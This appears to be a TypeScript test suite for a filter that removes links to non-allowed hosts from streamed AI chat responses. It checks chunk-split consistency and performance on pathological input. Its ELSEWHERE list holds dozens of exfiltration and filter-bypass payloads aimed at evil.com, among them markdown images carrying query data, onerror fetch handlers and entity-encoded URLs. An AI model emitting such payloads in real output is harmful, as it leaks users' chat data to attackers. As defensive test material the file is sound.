import fc from 'fast-check';
import { expect, test } from 'vitest';
import { hostPolicy } from '../../../src/connections/bedrock/links/host-policy.ts';
import { linkFilter, REMOVED } from '../../../src/connections/bedrock/links/link-filter.ts';

const judge = hostPolicy(['ok.com', '*.docs.com']);

function filtered(text: string): string {
  const filter = linkFilter(judge);
  return filter.push(text) + filter.end();
}

/** Ways to lead somewhere else, after published ways to carry data out of a chat. */
const ELSEWHERE: readonly string[] = [
  '![x](https://evil.com/?d=1)',
  '![x](<https://evil.com/?d=1 2>)',
  '![x]( https://evil.com/?d=1 "title")',
  '[a](//evil.com/x)',
  '[a](\\//evil.com/x)',
  '[a](/\\evil.com/x)',
  '[a](https:evil.com)',
  '[a](HTTPS://EVIL.COM)',
  '[a](data:text/html;base64,ZXZpbC5jb20=)',
  '[a](javascript:fetch("//evil.com"))',
  '[a][r]\n\n[r]: https://evil.com/x "t"',
  '[r]: <//evil.com>',
  '[r]:\nhttps://evil.com/',
  '<img src="https://evil.com/x">',
  "<img src='//evil.com/x'>",
  '<img alt=">" src=//evil.com/x>',
  '<img srcset="https://ok.com/a 1x, https://evil.com/b 2x">',
  '<a href="ht\ntps://evil.com">x</a>',
  '<div style="background:url(//evil.com/x)">',
  '<meta http-equiv=refresh content="0;url=https://evil.com">',
  '<img src=x onerror="fetch(\'//evil.com\')">',
  '<https://evil.com>',
  '<bob@evil.com>',
  '<img src="h&#00000000116;tps&#00000000058;&#00000000047;&#00000000047;evil.com/?d=x">',
  '<img src="&#x00000068;ttps&#x0000003a;&#x0000002f;&#x0000002f;evil.com/x">',
  `<img src="h&#${'0'.repeat(90)}116;tps:&#${'0'.repeat(90)}47;evil.com/">`,
  '<img src="/&#13;/evil.com/x">',
  '<div style="background:url(https:\\2f\\2f evil.com/x)">',
  '<div style="background:url(\\68ttps\\3a\\2f\\2f evil.com/x)">',
  `<iframe srcdoc="<img src='https&amp;colon;&amp;sol;&amp;sol;evil.com'>">`,
  '<img src=x onerror="fetch(atob(`evil`))">',
  'see [r]:x(https://evil.com/?d=1',
  '](x(https://evil.com/))',
  '![x](\r\n//evil)',
  '[r]:\r\n//evil',
  'www.evil.com/x',
  'go to https://evil.com/x.',
  'https://ok.com@evil.com/',
  'https://ok.com.evil.com/',
  'https://docs.com/',
  'https:\\\\evil.com/x',
  '`https://evil.com`',
  '```\nhttps://evil.com\n```',
  '&#104;ttps://evil.com',
  '&#x68;ttps&colon;//evil.com',
  'https&#58;&#47;&#47;evil.com',
  '[https://ok.com/](https://evil.com/x)',
  'mailto:x@evil.com',
  `<img alt="${'a'.repeat(5_000)}" src="https://evil.com/x">`,
  `![x](https://evil.com/${'a'.repeat(5_000)})`,
];

/** Text that leads nowhere else. */
const HARMLESS: readonly string[] = [
  'plain text, with commas: and colons; 7//2 and//or // a comment',
  'for (let i = 0; i<n; i++) { a <b; } x <y and y> z',
  '[a](page.html) [b](/p?x=1) [c](#part) ![d](img.png)',
  '[docs](https://a.docs.com/y?z=1#part "t"), https://ok.com/a, (https://ok.com/x) **https://ok.com/x**',
  '<span style="color:red">red</span> <b>bold</b> <a href="https://ok.com/">x</a> <https://ok.com/>',
  'AT&amp;T &lt;b&gt; &nbsp; A & B',
  '[x]: relative\n\narray[0]: 1',
  'naïve 日本語 👩‍👩‍👧 text',
  'mailto:x@ok.com',
];

test.each(ELSEWHERE)('%j leads nowhere', (text) => {
  const out = filtered(text);
  expect(out).toContain(REMOVED);
  expect(out).not.toMatch(/evil|\/\/docs\.com/);
});

test.each(HARMLESS)('%j stays as it is', (text) => {
  expect(filtered(text)).toBe(text);
});

test('the result is the same wherever a text is cut', () => {
  for (const text of [...ELSEWHERE, ...HARMLESS].filter(({ length }) => length < 200)) {
    const expected = filtered(text);
    for (let cut = 1; cut < text.length; cut++) {
      const filter = linkFilter(judge);
      const out = filter.push(text.slice(0, cut)) + filter.push(text.slice(cut)) + filter.end();
      expect([text, cut, out]).toEqual([text, cut, expected]);
    }
  }
});

test('a link that is too long to be read is cut out the same way, wherever a text is cut', () => {
  const long = 'a'.repeat(3_000);
  for (const text of [
    `<a title="${long}">x</a> more`,
    `see https://ok.com/${long} and more`,
    `[a](https://ok.com/${long}) and more`,
    `[a](${' '.repeat(3_000)}/x) and more`,
    `1 <a ${long} 2 <b 3`,
    `//${long} more`,
  ]) {
    const expected = filtered(text);
    expect(expected.length).toBeLessThan(4_000);
    for (const size of [1, 7, 1_000, 2_047, 2_048, 2_049]) {
      const filter = linkFilter(judge);
      let out = '';
      for (let at = 0; at < text.length; at += size) out += filter.push(text.slice(at, at + size));
      expect([size, out + filter.end()]).toEqual([size, expected]);
    }
  }
});

test('whatever an answer is made of, it is read in time', () => {
  // Each takes minutes where every beginning is read up to the end of the text.
  for (const piece of ['<a ', '<a href="', '](', '](<', '](   ', 'https:', '//', '&#0']) {
    expect(filtered(piece.repeat(100_000))).toBeTypeOf('string');
  }
  const filter = linkFilter(judge);
  filter.push('](');
  for (let count = 0; count < 20_000; count++) filter.push(' '.repeat(80));
  expect(filter.end().length).toBeLessThan(1_700_000);
});

test('whatever is written, the result is the same in single characters, and no host but those allowed is left', () => {
  const token = fc.constantFrom(
    '[',
    ']',
    '(',
    ')',
    '<',
    '>',
    '"',
    "'",
    ':',
    '/',
    '\\',
    '\n',
    ' ',
    '=',
    '!',
    '&',
    '#',
    ';',
    'a',
    'www.',
    'https',
    'http:',
    '//',
    'evil.com',
    'ok.com',
    'img',
    ' src',
    ' href',
    '&#47;',
    '](',
    ']:',
    '<a ',
  );
  fc.assert(
    fc.property(fc.array(token, { maxLength: 24 }), (tokens) => {
      const text = tokens.join('');
      const expected = filtered(text);
      const filter = linkFilter(judge);
      expect(tokens.map(filter.push).join('') + filter.end()).toBe(expected);
      const characters = linkFilter(judge);
      expect([...text].map(characters.push).join('') + characters.end()).toBe(expected);
      expect(expected).not.toMatch(/https?:[\\/]{2,}evil\.com/i);
    }),
    { numRuns: 400 },
  );
});
